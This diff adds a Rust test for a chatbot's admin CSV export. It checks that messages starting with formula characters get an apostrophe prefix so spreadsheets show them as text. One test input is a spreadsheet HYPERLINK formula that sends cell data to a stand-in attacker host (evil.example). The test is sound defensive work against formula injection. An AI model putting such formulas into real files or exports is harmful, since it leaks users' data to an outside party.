@@ -263,6 +263,43 @@ async fn conversations_are_listed_filtered_read_exported_as_csv_and_erased() {
 }
 
 /// `POST /admin/api/kb/{article}/questions` with `text`: teaches it.
+#[tokio::test]
+async fn a_message_written_as_a_spreadsheet_formula_is_exported_as_text() {
+    let (public, admin, setup) = with_admin(&[]).await;
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"details\")",
+        "+44 what's the weather",
+        "-1 recipes for soup",
+        "@SUM(1+1) weather",
+    ];
+    for formula in formulas {
+        say(public, formula).await;
+    }
+    say(public, "what's the weather in Leeds").await;
+    setup.state.chat.recorder.flush().await;
+    let csv = admin_get(admin, "/admin/api/export?format=csv").await;
+    assert_eq!(csv.status, 200);
+    let text = String::from_utf8(csv.body.to_vec()).unwrap();
+    let messages: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap()[3].to_owned())
+        .collect();
+    for formula in formulas {
+        assert!(
+            messages.contains(&format!("'{formula}")),
+            "{formula} in {messages:?}"
+        );
+    }
+    assert!(
+        messages.contains(&"what's the weather in Leeds".to_owned()),
+        "ordinary text as written: {messages:?}"
+    );
+    // The JSON lines keep the text exactly as recorded.
+    let jsonl = admin_get(admin, "/admin/api/export?format=jsonl").await;
+    let lines = String::from_utf8(jsonl.body.to_vec()).unwrap();
+    assert!(lines.contains("\"message\":\"=HYPERLINK("), "{lines}");
+}
+
 async fn teach(admin: SocketAddr, article: &str, text: &str) -> Reply {
     let path = format!("/admin/api/kb/{article}/questions");
     send(
